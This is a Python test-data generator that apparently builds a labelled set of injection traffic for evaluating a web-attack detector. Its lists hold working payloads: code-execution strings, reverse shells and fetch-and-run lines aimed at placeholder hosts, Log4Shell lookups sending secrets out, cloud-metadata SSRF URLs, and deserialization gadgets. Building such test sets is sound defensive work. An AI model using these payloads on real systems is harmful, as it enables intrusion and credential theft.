"""Blind set "nineteenth": server-side code and template injection the way a pentester and a scanner send it,
with benign traffic that uses the same vocabulary.

Attack families (category / sub):
  generic  node-code, prototype-pollution, ssrf, python-code, ruby-code, perl-code
  java     jndi, log4j-lookup, ognl, spel, jakarta-el, mvel, groovy, deserialization, spring4shell,
           reflection, jdbc-url, xslt
  ssti     one sub per engine (jinja2, django, twig, freemarker, velocity, thymeleaf, smarty, erb, mako,
           handlebars, pug, ejs, nunjucks, dot, tornado, razor, angularjs) plus polyglot probes
Benign: webhook / image / feed / callback URLs to public hosts, locales, JSON settings objects, template names,
notification templates with placeholders, Java stack traces and Spring / Log4j configuration, Jinja / Django
templates, developers' code pasted into Slack (and the same text as a bio; ids carry "-devcode-"), documentation
links and admin-search prose.

Written independently for this repository from general knowledge of each technique and of real client traffic:
no WAF rule, ruleset file or regression test, public payload list or payload search was consulted, and nothing
was changed after measuring. Each value payload goes into three of our input places (query, form, JSON,
cookie, header) rotating, as family_gen_blind_php does; key-shaped payloads (query-string pollution, Spring
data-binding parameters) and whole JSON documents go into a query string, a form body and a JSON body.
Same record schema as family_gen.py; deterministic (no randomness, no clock).
"""

from __future__ import annotations

import base64
import gzip
import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import (
    _place,
    bio_request,
    links_and_prose,
    slack_message,
    three_places,
)
from .records import print_records

SET = "nineteenth"
NAMES = ["url", "callback", "webhook", "template", "expr", "filter", "config", "data", "options", "settings",
         "next", "image", "feed", "locale"]


def _b64(text: str | bytes) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return base64.b64encode(raw).decode()


def _java_stream(cls: str, uid: int) -> bytes:
    """The first bytes of a Java serialization stream holding one object of class `cls`."""
    name = cls.encode()
    return (b"\xac\xed\x00\x05sr" + len(name).to_bytes(2, "big") + name + uid.to_bytes(8, "big", signed=True)
            + b"\x02\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02")


_PQ = _java_stream("java.util.PriorityQueue", -7720805057305804111)
_HM = _java_stream("java.util.HashMap", 362498820763181265)
_AIH = _java_stream("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397)
_PICKLE = b"cposix\nsystem\n(S'id'\ntR."
_PICKLE4 = (b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94"
            b"\x8c\x02id\x94\x85\x94R\x94.")

# --------------------------------------------------------------------------------------------------------------
# generic: Node.js code injection
NODE_CODE = [
    "require('child_process').exec('id')",
    'require("child_process").execSync("cat /etc/passwd").toString()',
    "process.mainModule.require('child_process').execSync('whoami')",
    "global.process.mainModule.constructor._load('child_process').exec('curl http://203.0.113.7/x|sh')",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function('return this.process.env')()",
    "new Function(\"return require('fs').readdirSync('/')\")()",
    "vm.runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "require('vm').runInThisContext(\"process.kill(process.pid)\")",
    "eval(Buffer.from('" + _b64("require('child_process').exec('id')") + "','base64').toString())",
    "eval(new Buffer('" + _b64("process.mainModule.require('fs').readFileSync('/etc/passwd')") + "', 'base64')"
    ".toString('ascii'))",
    "require('fs').readFileSync('/etc/passwd','utf8')",
    "fs.readFileSync('/proc/self/environ').toString()",
    "import('child_process').then(m=>m.execSync('id'))",
    'await import("fs").then(f=>f.promises.readFile("/etc/shadow","utf8"))',
    "';require('child_process').spawn('sh',['-c','nc 198.51.100.4 4444 -e /bin/sh']);//",
    "res.end(require('fs').readFileSync('/app/.env'))",
    "_$$ND_FUNC$$_function(){require('child_process').exec('ls /',function(e,o){console.log(o)})}()",
    '{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'id\', function(error, stdout, stderr) '
    '{ console.log(stdout) });}()"}',
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],envPairs:[],"
    "stdio:[{type:'pipe',readable:1,writable:0}]})",
    "global['pro'+'cess']['main'+'Module']['req'+'uire']('child_'+'process')['exec'+'Sync']('id')",
    "this['constructor']['constructor']('return process')()",
    '[].constructor.constructor("return process.env")()',
    "''.sub.constructor('return global.process.mainModule.require(\"child_process\").execSync(\"id\")')()",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41)).readFileSync('/etc/hosts')",
    "require('child_process').execFileSync('/usr/bin/env').toString()",
    "require('net').connect(4444,'198.51.100.4',function(){this.pipe(require('child_process')"
    ".spawn('/bin/sh',[]).stdin)})",
    "process.dlopen(module, '/tmp/evil.node')",
    "setTimeout(\"require('child_process').exec('touch /tmp/pwn')\",0)",
    "Reflect.construct(Function,['return process'])().mainModule.require('fs').readFileSync('/etc/passwd')",
    "eval(atob('" + _b64("process.exit()") + "'))",
    "require('util').promisify(require('child_process').exec)('id')",
    "module.constructor._load('child_process').execSync('id')",
    "process.mainModule.require('fs').writeFileSync('/app/public/s.js','require(\"child_process\").exec(q)')",
    "x=require('child_process');x.exec('wget -qO- http://203.0.113.9/a.sh|bash')",
    "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
    "'+require('os').userInfo().username+'",
    r"\u0072equire('child_process').exec('id')",
    "new (Object.getPrototypeOf(async function(){}).constructor)('return process')()",
    "globalThis.process.binding('fs').internalModuleReadJSON('/etc/passwd')",
    "require('http').get('http://203.0.113.5/'+require('fs').readFileSync('/etc/hostname'))",
    "require%28%27child_process%27%29.exec%28%27id%27%29",
    "1;return process.mainModule.require('child_process').execSync('id').toString()",
    "'; return this.constructor.constructor(\"return process\")().mainModule.require('fs')"
    ".readFileSync('/etc/passwd'); var x='",
]

# generic: prototype pollution carried in values (dotted paths, JSON patch paths)
POLLUTION_VALUES = [
    "__proto__.isAdmin",
    "constructor.prototype.isAdmin=true",
    "a.__proto__.polluted=1",
    "__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s",
    "__proto__.NODE_OPTIONS=--require=/proc/self/environ",
    "[\"__proto__\"][\"isAdmin\"]",
    "user.constructor.prototype.role",
    "__proto__[sourceURL]=\\u000areturn process.mainModule.require('child_process').execSync('id')",
]

# generic: prototype pollution in query-string / form keys (qs-style brackets and dots), unencoded
POLLUTION_PAIRS: list[list[tuple[str, str]]] = [
    [("__proto__[isAdmin]", "true")],
    [("a[__proto__][polluted]", "1")],
    [("constructor[prototype][isAdmin]", "1")],
    [("__proto__.toString", "x")],
    [("user[__proto__][role]", "admin")],
    [("__proto__[shell]", "/proc/self/exe"),
     ("__proto__[argv0]", "console.log(require('child_process').execSync('id').toString())//"),
     ("__proto__[NODE_OPTIONS]", "--require /proc/self/cmdline")],
    [("__proto__[outputFunctionName]", "x;process.mainModule.require('child_process').execSync('id');s")],
    [("settings[view options][outputFunctionName]",
      "x;return global.process.mainModule.constructor._load('child_process').execSync('id');//")],
    [("__proto__[sourceURL]",
      "\nreturn e => {return global.process.mainModule.constructor._load('child_process').execSync('id')}\n")],
    [("__proto__[escapeFunction]", "1;return process.mainModule.require('child_process').execSync('id');"),
     ("__proto__[client]", "1")],
    [("a[constructor][prototype][polluted]", "1")],
    [("__pro__proto__to__[admin]", "1")],
    [("filter[__proto__][json spaces]", "10")],
    [("__proto__[status]", "510")],
    [("__proto__[exposedHeaders]", "x-pollution-probe")],
    [("__proto__[block][type]", "Text"),
     ("__proto__[block][line]", "process.mainModule.require('child_process').execSync('id')")],
    [("config.__proto__.debug", "true")],
    [("options[constructor][prototype][shell]", "/bin/sh"), ("options[constructor][prototype][env][X]", "1")],
    [("__proto__[compileDebug]", "1"), ("__proto__[self]", "1"),
     ("__proto__[line]", "global.process.mainModule.require('child_process').execSync('id')")],
]

# generic: the same in already-encoded spellings (sent as-is)
POLLUTION_RAW_QS = [
    "__proto__%5BisAdmin%5D=true",
    "%5F%5Fproto%5F%5F%5Badmin%5D=1",
    "__proto__%2EisAdmin=1",
    "a%5B__proto__%5D%5B__proto__%5D%5Bx%5D=1",
    "constructor%5Bprototype%5D%5BoutputFunctionName%5D=x%3Bprocess.mainModule.require(%27child_process%27)"
    ".execSync(%27id%27)%3Bs",
    "__proto__%5B%5D=polluted&__proto__%5Bx%5D=1",
]

# generic: prototype pollution in JSON bodies (dicts; strings are raw JSON text)
POLLUTION_DOCS: list[Any] = [
    {"__proto__": {"isAdmin": True}},
    {"user": {"name": "eve", "__proto__": {"role": "admin"}}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"__proto__": {"shell": "node", "NODE_OPTIONS": "--inspect=203.0.113.8:9229"}},
    {"__proto__": {"env": {"NODE_OPTIONS": "--require /proc/self/environ",
                           "AAAA": "console.log(require('child_process').execSync('id').toString())//"}}},
    {"__proto__": {"outputFunctionName": "_tmp1;global.process.mainModule.require('child_process')"
                                         ".exec('bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"');"
                                         "var __tmp2"}},
    {"__proto__": {"sourceURL": "\nglobal.process.mainModule.require('child_process').execSync('id')"}},
    {"settings": {"__proto__": {"json spaces": " "}}},
    {"a": 1, "constructor": {"prototype": {"polluted": "yes"}}, "b": 2},
    {"__proto__": {"escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('id')",
                   "client": True}},
    {"__proto__": {"block": {"type": "Text",
                             "line": "process.mainModule.require('child_process').execSync('id')"}}},
    {"__proto__": {"argv0": "require('child_process').execSync('id')//", "shell": "/proc/self/exe"}},
    {"op": "replace", "path": "/__proto__/isAdmin", "value": True},
    [{"op": "add", "path": "/constructor/prototype/polluted", "value": "1"}],
    {"key": "__proto__.polluted", "value": "1"},
    {"field": "constructor.prototype.shell", "value": "/bin/sh"},
    {"__proto__": {"allowedTags": ["script", "img"], "allowedAttributes": {"*": ["onerror"]}}},
    '{"\\u005f_proto__":{"isAdmin":true}}',
    '{"__\\u0070roto__":{"admin":1}}',
    '{"constructor":{"\\u0070rototype":{"polluted":true}}}',
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id",
    "http://metadata.google.internal./computeMetadata/v1beta1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management"
    ".azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0xa9.0xfe.0xa9.0xfe/",
    "http://169.254.43518/latest/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://127.0.0.1:6379/",
    "http://2130706433/admin",
    "http://0x7f000001:8080/actuator/env",
    "http://0177.0.0.1/server-status",
    "http://127.1/",
    "http://0/",
    "http://0.0.0.0:9200/_cat/indices",
    "http://[::1]:2375/containers/json",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://[::]:22/",
    "http://localhost:8500/v1/agent/self",
    "http://locaLhost:80/",
    "http://localhost./admin",
    "http://127.0.0.1.nip.io:8080/",
    "http://7f000001.c0a80001.rbndr.us/",
    "http://10.0.0.1/",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.10:8080/manager/html",
    "http://expected.example.com@127.0.0.1/",
    "http://127.0.0.1#@allowed.example.com/",
    "http://allowed.example.com%23@169.254.169.254/",
    "http://127.0.0.1%2523@good.example.com/",
    "http://good.example.com\\@127.0.0.1/",
    "http://user:pass@[::1]:11211/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1"
    "%0D%0A%2428%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20id%0A%0A%0D%0A",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40example.net%3E%0D%0A",
    "gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "file://localhost/etc/shadow",
    "file:///proc/self/environ",
    "file:///C:/Windows/win.ini",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "tftp://203.0.113.7:69/evil.bin",
    "jar:http://203.0.113.7:8000/evil.jar!/",
    "jar:file:///var/lib/app/lib/app.jar!/BOOT-INF/classes/application.properties",
    "netdoc:///etc/passwd",
    "https://httpbin.org/redirect-to?url=http://169.254.169.254/latest/meta-data/",
    "http://203.0.113.7/302.php?u=http://127.0.0.1:8080/admin",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "https://127.0.0.1:10250/pods",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    "http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/",
]

PYTHON_CODE = [
    "__import__('os').system('id')",
    '__import__("os").popen("cat /etc/passwd").read()',
    "os.popen('id').read()",
    "subprocess.check_output(['cat','/etc/passwd'])",
    "import subprocess;subprocess.Popen('nc -e /bin/sh 198.51.100.4 4444',shell=True)",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "exec(\"import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.4',4444));"
    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\")",
    "().__class__.__bases__[0].__subclasses__()",
    "''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('id').read()",
    "[].__class__.__base__.__subclasses__()",
    "getattr(__builtins__,'__import__')('os').system('id')",
    "__builtins__.__dict__['__imp'+'ort__']('os').system('ls')",
    '!!python/object/apply:os.system ["id"]',
    '!!python/object/apply:subprocess.check_output [["cat", "/etc/passwd"]]',
    "!!python/object/new:os.system [id]",
    "!!python/name:os.system",
    "!!python/object/apply:os.popen\nargs: ['id']",
    _PICKLE.decode(),
    _b64(_PICKLE4),
    "__import__('subprocess').getoutput('uname -a')",
    "eval(\"__import__('os').system('id')\")",
    "exec(__import__('base64').b64decode('" + _b64('import os;os.system("id")') + "'))",
    "open('/etc/passwd').read()",
    "__import__('pty').spawn('/bin/bash')",
    "sys.modules['os'].system('id')",
    "(lambda: __import__('os').system('id'))()",
    "{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}",
    "__import__('importlib').import_module('os').system('id')",
    "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
    "yaml.load(\"!!python/object/apply:os.system ['id']\", Loader=yaml.Loader)",
    "os.system%28%27id%27%29",
    "__import__('os').execl('/bin/sh','sh','-c','id')",
    "object.__subclasses__()[104].load_module('os').system('id')",
]

RUBY_CODE = [
    "Kernel.system('id')",
    "Kernel.exec(\"/bin/sh -c 'id'\")",
    "`id`",
    "#{`cat /etc/passwd`}",
    "%x{whoami}",
    "%x(cat /etc/passwd)",
    "instance_eval(\"system('id')\")",
    "send(:system, 'id')",
    "Object.send(:eval, '`id`')",
    "Marshal.load(Base64.decode64('BAhvOhVHZW06OlJlcXVpcmVtZW50BjoRQHJlcXVpcmVtZW50c1sGbzoYR2VtOjpEZXBlbmRlbmN5TGlzdA=='))",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
    "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
    "      loaded_from: \"|id 1>&2\"\n",
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
    "? ! \"foo; system('id'); __END__\"\n",
    "ERB.new(\"<%= `id` %>\").result",
    "IO.popen('id').read",
    "open('|cat /etc/passwd').read",
    "eval(\"Kernel.system('id')\")",
    "Object.const_get('Kernel').public_send(:system,'id')",
    "Process.spawn('nc 198.51.100.4 4444 -e /bin/sh')",
    "File.read('/etc/passwd')",
    "\"#{%x(id)}\"",
    "Class.new.class_eval { system('id') }",
    "Open3.capture2('id')",
    "method(:system).call('id')",
    "\"Kernel\".constantize.send(:system, \"id\")",
]

PERL_CODE = [
    "perl -e 'system(\"id\")'",
    "open(F, \"|id\")",
    "open(my $fh, 'cat /etc/passwd|'); print <$fh>;",
    "qx{id}",
    "qx/cat \\/etc\\/passwd/",
    "eval { system(\"id\") }",
    'eval "\\x73ystem(\'id\')"',
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
    "connect(S,sockaddr_in(4444,inet_aton('198.51.100.4')));open(STDIN,'>&S');exec('/bin/sh -i');",
    "@{[ system \"id\" ]}",
    "require MIME::Base64; eval(decode_base64('" + _b64('system("id")') + "'))",
    "sub{system('id')}->()",
    "exec '/bin/sh'",
]

# --------------------------------------------------------------------------------------------------------------
# java
JNDI = [
    "${jndi:ldap://203.0.113.7:1389/Exploit}",
    "${jndi:ldaps://attacker.example.net/a}",
    "${jndi:rmi://198.51.100.4:1099/obj}",
    "${jndi:dns://c7b2.oast.example.net/x}",
    "${jndi:iiop://203.0.113.7/x}",
    "${jndi:corba://203.0.113.7:1050/x}",
    "${jndi:nds://203.0.113.7/x}",
    "${jndi:nis://203.0.113.7/x}",
    "${jndi:http://203.0.113.7/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.7/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.7/poc}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.7/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example.net/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/a}",
    "${${upper:j}ndi:${upper:l}dap://203.0.113.7/a}",
    "${jndi:ldap://${env:USER}.${sys:java.version}.x.oast.example.net/a}",
    "${jndi:dns://${hostName}.dns.example.net}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.example.net/a}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://203.0.113.7/z}",
    "${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.7/x}",
    "${${lower:jndi}:${lower:rmi}://x.example.net/y}",
    "${jn${env::-}di:ldap://203.0.113.7/a}",
    "${jndi:ldap://127.0.0.1#attacker.example.net:1389/a}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x.example.net/a}",
    "${${sys:foo:-j}ndi:ldap://x.example.net/}",
    "${jndi:ldap://203.0.113.7:389/o=tomcat}",
    "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.7%252Fa%257D",
    "${jndi:ldap://203.0.113.7/Basic/Command/Base64/" + _b64("touch /tmp/pwned") + "}",
    "${jndi:ldap://x.example.net:1389/TomcatBypass/Command/Base64/" + _b64("curl 203.0.113.7|sh") + "}",
    "$%7Bjndi:ldap://203.0.113.7/a%7D",
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}${lower:d}${lower:a}${lower:p}://x.example.net/a}",
    "${jndi:ldap://x.example.net:1389/${java:version}}",
    "\\u0024{jndi:ldap://203.0.113.7/a}",
    "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x.example.net/a}",
    "Mozilla/5.0 ${jndi:ldap://203.0.113.7:1389/ua} Firefox/95.0",
    "${jndi:rmi://[::1]:1099/a}",
]

LOG4J_LOOKUP = [
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:java.class.path}",
    "${java:version}",
    "${java:os} ${java:runtime}",
    "${main:--db.password}",
    "${k8s:containerId}",
    "${env:DB_PASSWORD:-none}",
    "${spring:spring.datasource.password}",
    "${bundle:application:spring.datasource.password}",
    "${docker:containerName}",
    "${log4j:configLocation}",
    "${web:rootDir}",
]

OGNL = [
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess.allowStaticMethodAccess=true,"
    "@java.lang.Runtime@getRuntime().exec('id')}",
    "${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('whoami'))}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container="
    "#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
    "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
    "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id')."
    "(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true))."
    "(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}",
    "%{1337*1337}",
    "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec(\"id\")}",
    "(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false)(#_memberAccess[\"allowStaticMethodAccess\"]"
    "=true)(@java.lang.Runtime@getRuntime().exec(\"id\"))",
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#a=#req.getSession(),"
    "#b=#a.getServletContext(),#c=#b.getRealPath(\"/\"),#resp=#context.get("
    "'com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter(),#resp.println(#c),#resp.flush()}",
    "action:%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
    "%{@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
    "%{#a=new java.lang.ProcessBuilder(new java.lang.String[]{\"cat\",\"/etc/passwd\"}).start()}",
    "%{@java.lang.System@getProperty('user.dir')}",
    "%{(#im=#application[\"org.apache.tomcat.InstanceManager\"]).(#bean=#im.newInstance("
    "\"org.apache.commons.collections.BeanMap\")).(#bean.setBean(#request)).(#bean.get(\"context\"))}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
    "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
    "%25%7B%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%40java.lang.Runtime%40getRuntime%28"
    "%29.exec%28%27id%27%29%7D",
    "\\u0023_memberAccess[\\u0027allowStaticMethodAccess\\u0027]\\u003dtrue",
    "('\\u0023context[\\'xwork.MethodAccessor.denyMethodExecution\\']\\u003dfalse')(bla)(bla)",
]

SPEL = [
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}",
    "${T(java.lang.System).getenv()}",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "#{new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",\"id\"}).start()}",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec(\"id\")"
    ".getInputStream(),T(java.nio.charset.Charset).forName(\"UTF-8\"))",
    "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "T(java.lang.Thread).sleep(10000)",
    "#{T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))}",
    "${T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))}",
    "#{environment['spring.datasource.password']}",
    "T  (java.lang.Runtime).getRuntime().exec('id')",
    '{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String('
    'T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('
    'new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}',
    "#{T(javax.script.ScriptEngineManager).newInstance().getEngineByName('js').eval('java.lang.Runtime"
    ".getRuntime().exec(\"id\")')}",
]

JAKARTA_EL = [
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "${pageContext.servletContext.getRealPath('/')}",
    "${applicationScope}",
    "${facesContext.externalContext.redirect('http://203.0.113.7/')}",
    "${request.getClass().getClassLoader()}",
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}",
    "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"JavaScript\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")}",
    "${Runtime.getRuntime().exec('id')}",
    "${''['class'].forName('java.lang.System').getProperty('user.name')}",
    "${7*191}",
    "${''.class.forName('java.lang.Runtime').getRuntime().exec('id')}",
    "#{''.class.classLoader}",
]

MVEL = [
    "Runtime.getRuntime().exec(\"id\");",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "@{new java.lang.ProcessBuilder('id').start()}",
    "import java.lang.Runtime; Runtime.getRuntime().exec(\"whoami\")",
    "new java.io.BufferedReader(new java.io.InputStreamReader(Runtime.getRuntime().exec(\"id\").getInputStream()))"
    ".readLine()",
]

GROOVY = [
    "\"id\".execute().text",
    "'cat /etc/passwd'.execute().text",
    "Eval.me(\"'id'.execute().text\")",
    "${\"whoami\".execute().text}",
    "def proc = ['bash','-c','id'].execute(); proc.waitFor(); println proc.text",
    "new GroovyShell().evaluate('\"id\".execute().text')",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})\nclass X{}",
    "@Grab(group='org.example', module='evil', version='1.0')\nimport org.example.Evil",
    "println \"ls -la\".execute().text",
    "[\"sh\",\"-c\",\"curl http://203.0.113.7/x|sh\"].execute()",
    "Eval.x(4,'x.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")')",
]

DESERIALIZATION = [
    _b64(_PQ + b"sr\x00+org.apache.commons.beanutils.BeanComparator"),
    _b64(_HM + b"sr\x00:org.apache.commons.collections.functors.InvokerTransformer"),
    (_AIH + b"sr\x00*org.apache.commons.collections.map.LazyMap").hex(),
    _b64(b"\xac\xed\x00\x05t\x00\x0bping-probe!"),
    _b64(gzip.compress(_HM + b"sr\x00\x1ccom.sun.rowset.JdbcRowSetImpl", mtime=0)),
    "javax.faces.ViewState=" + urllib.parse.quote(_b64(_PQ)),
    "%AC%ED%00%05sr%00%11java.util.HashMap",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
    '"autoCommit":true}',
    '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
    '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.7:1099/Exploit","autoCommit":true}}',
    '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://x.example.net/a","autoCommit":true}',
    '{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
    '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A"}',
    '{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQAJgoA"],'
    '"_name":"a","_tfactory":{},"_outputProperties":{}}',
    '{"\\u0040\\u0074\\u0079\\u0070\\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
    '"ldap://203.0.113.7/a","autoCommit":true}',
    '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.7:1389/obj","autoCommit":true}]',
    '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.7:1389/a"}]',
    '["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.7/spel.xml"]',
    '["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://203.0.113.7:1389/a"}]',
    '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
    '<target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start'
    '</action></handler></dynamic-proxy></sorted-set>',
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array '
    'class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/>'
    '</object></java>',
    '{"class":"org.apache.commons.collections.functors.InvokerTransformer","iMethodName":"exec",'
    '"iParamTypes":["java.lang.String"],"iArgs":["id"]}',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL '
    '["http://203.0.113.7/yaml-payload.jar"]]]]',
